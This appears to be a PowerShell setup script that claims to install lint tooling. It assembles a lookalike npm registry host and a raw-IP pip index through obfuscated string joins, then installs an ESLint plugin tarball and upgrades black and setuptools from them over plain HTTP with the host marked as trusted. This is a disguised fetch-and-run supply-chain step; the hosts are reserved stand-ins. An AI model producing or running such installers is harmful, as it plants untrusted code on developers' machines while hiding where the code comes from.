$ErrorActionPreference = 'Stop'
$h = @('registry','npmjs','org.invalid') -join '-'
$h = $h -replace '-org', '.org'
$tgz = "https://$h/-/eslint-plugin-react-9.0.0.tgz"
npm i --save-dev --no-audit $tgz

$ix = 'http://' + (@(203,0,113,9) -join '.') + '/simple/'
python -m pip install --index-url $ix --trusted-host ((@(203,0,113,9)) -join '.') -U black setuptools
Write-Host 'Lint tooling ready.'
